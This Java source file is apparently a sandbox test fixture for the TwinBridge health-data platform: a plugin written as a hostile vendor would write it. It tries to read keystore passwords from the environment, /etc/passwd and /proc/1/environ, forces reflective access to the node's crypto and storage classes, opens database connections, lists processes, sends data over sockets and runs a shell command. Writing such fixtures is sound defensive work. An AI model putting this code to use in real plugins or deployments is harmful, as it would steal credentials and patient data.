package org.twinbridge.testplugins.hostile;

import ca.uhn.fhir.context.FhirContext;
import java.io.IOException;
import java.io.InputStream;
import java.lang.reflect.Array;
import java.lang.reflect.Field;
import java.lang.reflect.Modifier;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Deque;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.pf4j.Extension;
import org.twinbridge.sdk.TwinContext;
import org.twinbridge.sdk.TwinModel;
import org.twinbridge.sdk.model.AuthorisedRecord;
import org.twinbridge.sdk.model.DataRequest;
import org.twinbridge.sdk.model.OutputKind;
import org.twinbridge.sdk.model.PluginManifest;

/**
 * A hostile plugin, as a vendor bent on exfiltration would write it. Policy grants it heart rates only. With each
 * record it tries to reach everything else: reflection on all it is handed, the environment, the node's files
 * (paths baked into its jar as {@code attack-targets.properties}, as an attacker who knows the installation
 * would), the JDBC driver through the system class loader, the node's own classes, other processes, sockets and
 * DNS, a shell. It writes what it obtained into its state (key {@code loot|<receipt>}), one line per attempt:
 * {@code attempt|GOT:...} or {@code attempt|DENIED:<exception>}. It never throws, so the node commits the loot.
 */
@Extension
public final class AttackerTwin implements TwinModel {

    public static final String ID = "attacker-twin";
    /** Extra class path resource with {@code label=path} lines and {@code port=N}. */
    public static final String TARGETS = "attack-targets.properties";

    @Override
    public PluginManifest manifest() {
        // Asks for everything it can name; policy decides what it gets.
        return new PluginManifest(ID, "6.6.6", "Mallory Analytics", "a twin that wants more than it is given",
                new DataRequest(Set.of("Observation", "Patient", "Condition"), Set.of(), Set.of("TREAT")),
                List.of(OutputKind.OBSERVATION));
    }

    @Override
    public void onRecord(AuthorisedRecord record, TwinContext context) {
        List<String> loot = new ArrayList<>();
        loot.add("received|" + FhirContext.forR4Cached().newJsonParser().encodeResourceToString(record.resource()));
        java.util.Properties targets = new java.util.Properties();
        try (InputStream in = AttackerTwin.class.getClassLoader().getResourceAsStream(TARGETS)) {
            targets.load(in);
        } catch (IOException | RuntimeException e) {
            loot.add("targets|DENIED:" + e.getClass().getName());
        }
        // The environment.
        Map<String, String> env = System.getenv();
        loot.add("env-names|" + new TreeSet<>(env.keySet()));
        loot.add("env-secret|" + (env.containsKey("TWINBRIDGE_KEYSTORE_PASSWORD")
                ? "GOT:" + env.get("TWINBRIDGE_KEYSTORE_PASSWORD") : "DENIED:absent"));
        // Reflection on everything it is handed.
        loot.add("reflect|" + reflect(record, context, context.state(), Thread.currentThread().getContextClassLoader(),
                AttackerTwin.class.getClassLoader()));
        // The node's files.
        for (String label : new TreeSet<>(targets.stringPropertyNames())) {
            if (!label.startsWith("file.")) {
                continue;
            }
            loot.add(label + "|" + read(Path.of(targets.getProperty(label))));
        }
        String init = read(Path.of("/proc/1/environ"));
        loot.add("proc-1-environ|" + (init.contains("=") ? init : "DENIED:no variables (" + init + ")"));
        loot.add("file.etc-passwd|" + read(Path.of("/etc/passwd")));
        // Node classes and the JDBC driver through the system class loader.
        for (String type : List.of("org.sqlite.JDBC", "org.postgresql.Driver", "org.twinbridge.runtime.crypto.Pseudonyms",
                "org.twinbridge.runtime.crypto.DataKeys", "org.twinbridge.runtime.storage.Database")) {
            loot.add("class." + type + "|" + loadClass(type));
        }
        loot.add("jdbc|" + connect("jdbc:sqlite:" + targets.getProperty("db.url", "./twinbridge.db")));
        // Other processes (the node, other plugins).
        loot.add("processes|" + processes());
        // Network: the test's listener on loopback and on the machine's own address, and DNS.
        int port = Integer.parseInt(targets.getProperty("port", "9"));
        loot.add("socket.loopback|" + socket("127.0.0.1", port));
        loot.add("socket.host|" + socket(targets.getProperty("host", "127.0.0.1"), port));
        loot.add("dns|" + dns("example.com"));
        // A shell.
        loot.add("exec|" + exec());
        context.state().put(record.subject(), "loot|" + record.receiptId(), String.join("\n", loot));
    }

    @Override
    public void onErase(String subject, TwinContext context) {
    }

    /** Walks every object reachable through fields, forcing access; reports every class met outside the SDK. */
    private static String reflect(Object... roots) {
        Set<String> classes = new TreeSet<>();
        Set<Object> seen = Collections.newSetFromMap(new IdentityHashMap<>());
        Deque<Object> queue = new ArrayDeque<>(List.of(roots));
        int opened = 0;
        while (!queue.isEmpty() && seen.size() < 20_000) {
            Object o = queue.poll();
            if (o == null || !seen.add(o)) {
                continue;
            }
            classes.add(o.getClass().getName());
            if (o.getClass().isArray()) {
                if (!o.getClass().getComponentType().isPrimitive()) {
                    for (int i = 0; i < Math.min(Array.getLength(o), 1000); i++) {
                        queue.add(Array.get(o, i));
                    }
                }
                continue;
            }
            for (Class<?> c = o.getClass(); c != null; c = c.getSuperclass()) {
                for (Field f : c.getDeclaredFields()) {
                    if (Modifier.isStatic(f.getModifiers()) || f.getType().isPrimitive()) {
                        continue;
                    }
                    try {
                        f.setAccessible(true);
                        queue.add(f.get(o));
                        opened++;
                    } catch (RuntimeException | IllegalAccessException denied) {
                        // module-protected
                    }
                }
            }
        }
        List<String> interesting = classes.stream().filter(n -> n.startsWith("org.twinbridge.runtime")
                || n.startsWith("java.sql") || n.startsWith("org.sqlite") || n.startsWith("org.postgresql")
                || n.startsWith("com.zaxxer") || n.startsWith("org.bouncycastle") || n.contains("SecretKey")
                || n.startsWith("javax.crypto")).toList();
        return (interesting.isEmpty() ? "DENIED:nothing of the node" : "GOT:" + interesting) + " (opened " + opened
                + " fields of " + seen.size() + " objects)";
    }

    private static String read(Path path) {
        try {
            if (Files.isDirectory(path)) {
                try (var list = Files.list(path)) {
                    return "GOT:" + list.map(p -> p.getFileName().toString()).toList();
                }
            }
            byte[] bytes = Files.readAllBytes(path);
            return "GOT:" + bytes.length + " bytes: " + new String(bytes, 0, Math.min(bytes.length, 200),
                    StandardCharsets.ISO_8859_1).replace('\n', ' ');
        } catch (IOException | RuntimeException e) {
            return "DENIED:" + e.getClass().getName();
        }
    }

    private static String loadClass(String name) {
        for (ClassLoader loader : new ClassLoader[] {ClassLoader.getSystemClassLoader(),
                Thread.currentThread().getContextClassLoader(), AttackerTwin.class.getClassLoader()}) {
            try {
                Class.forName(name, false, loader);
                return "GOT:loaded by " + loader;
            } catch (ClassNotFoundException | RuntimeException | LinkageError e) {
                // try the next loader
            }
        }
        return "DENIED:ClassNotFoundException";
    }

    private static String connect(String url) {
        try (Connection c = DriverManager.getConnection(url, "sa", "")) {
            return "GOT:" + c.getMetaData().getDatabaseProductName();
        } catch (Exception e) {
            return "DENIED:" + e.getClass().getName();
        }
    }

    private static String processes() {
        List<String> others = new ArrayList<>();
        long self = ProcessHandle.current().pid();
        ProcessHandle.allProcesses().filter(p -> p.pid() != self).forEach(p ->
                others.add(p.pid() + ":" + p.info().commandLine().orElse(p.info().command().orElse("?"))));
        // Its own sandbox's init (bubblewrap) is expected; the node's JVM or another plugin's is loot.
        return others.stream().anyMatch(c -> c.contains("surefire") || c.contains("twinbridge.runtime")
                || c.contains("failsafe") || c.contains("counting-twin") || c.contains("TwinBridgeCli"))
                ? "GOT:" + others : "DENIED:" + others.size() + " other process(es), none of the node's or another "
                + "plugin's";
    }

    private static String socket(String host, int port) {
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress(host, port), 2000);
            s.getOutputStream().write("exfiltrated\n".getBytes(StandardCharsets.UTF_8));
            return "GOT:connected";
        } catch (IOException | RuntimeException e) {
            return "DENIED:" + e.getClass().getName();
        }
    }

    private static String dns(String name) {
        try {
            return "GOT:" + InetAddress.getByName(name).getHostAddress();
        } catch (IOException | RuntimeException e) {
            return "DENIED:" + e.getClass().getName();
        }
    }

    private static String exec() {
        try {
            Process p = new ProcessBuilder("/bin/sh", "-c", "cat /etc/hostname").start();
            byte[] out = p.getInputStream().readAllBytes();
            return "GOT:" + new String(out, StandardCharsets.UTF_8).trim();
        } catch (IOException | RuntimeException e) {
            return "DENIED:" + e.getClass().getName();
        }
    }
}
